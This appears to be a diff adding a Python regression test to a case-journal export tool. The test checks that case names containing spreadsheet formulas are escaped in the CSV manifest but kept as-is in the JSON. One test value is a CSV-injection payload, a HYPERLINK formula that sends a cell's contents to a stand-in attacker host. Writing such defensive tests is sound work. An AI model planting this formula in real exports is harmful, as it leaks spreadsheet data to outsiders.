@@ -159,3 +159,39 @@ def test_journal_export_is_for_coordinators(capsys, paths, tmp_path, monkeypatch
     code, _out, err = run(capsys, rpaths, "journal", "export", "--out", str(tmp_path / "j"))
     assert code == 2 and "koordinator" in err.lower()
     assert not (tmp_path / "j").exists()
+
+
+def test_journal_manifest_csv_keeps_a_formula_in_a_name_as_text(
+    capsys, demo_db, profile, paths, tmp_path, monkeypatch
+):
+    monkeypatch.setenv("UDSAT_PASSPHRASE", PASSPHRASE)
+    build_demo_reviews(demo_db, 3, profile.user_id, LIB, seed=71, all_ready=True)
+    assert sign_ready(demo_db, paths, profile, LIB, KEY_PASS, workers=1)
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1', "@SUM(A1:A9)"]
+    keys = [
+        r[0]
+        for r in demo_db.reader().execute(
+            'SELECT DISTINCT c.case_key FROM review r JOIN "case" c ON c.id = r.case_id '
+            "ORDER BY c.case_key"
+        )
+    ]
+    names = dict(zip(keys, [*hostile, "Åse Ærø"], strict=False))
+    for key, name in names.items():
+        demo_db.reader().execute('UPDATE "case" SET name = ? WHERE case_key = ?', (name, key))
+    out_dir = tmp_path / "journal"
+    code, _out, err = run(capsys, paths, "journal", "export", "--out", str(out_dir))
+    assert code == 0, err
+    rows = list(
+        csv.DictReader((out_dir / "manifest.csv").read_text(encoding="utf-8-sig").splitlines())
+    )
+    documents = json.loads((out_dir / "manifest.json").read_text(encoding="utf-8"))["documents"]
+    seen = set()
+    for row, doc in zip(rows, documents, strict=True):
+        name = names[row["sagsnoegle"]]
+        assert doc["navn"] == name  # JSON is data, not a spreadsheet: as it is
+        assert row["navn"] == ("'" + name if name in hostile else name)
+        assert {k: v for k, v in row.items() if k != "navn"} == {
+            k: v for k, v in doc.items() if k != "navn"
+        }
+        seen.add(name)
+    assert set(hostile) <= seen and "Åse Ærø" in seen
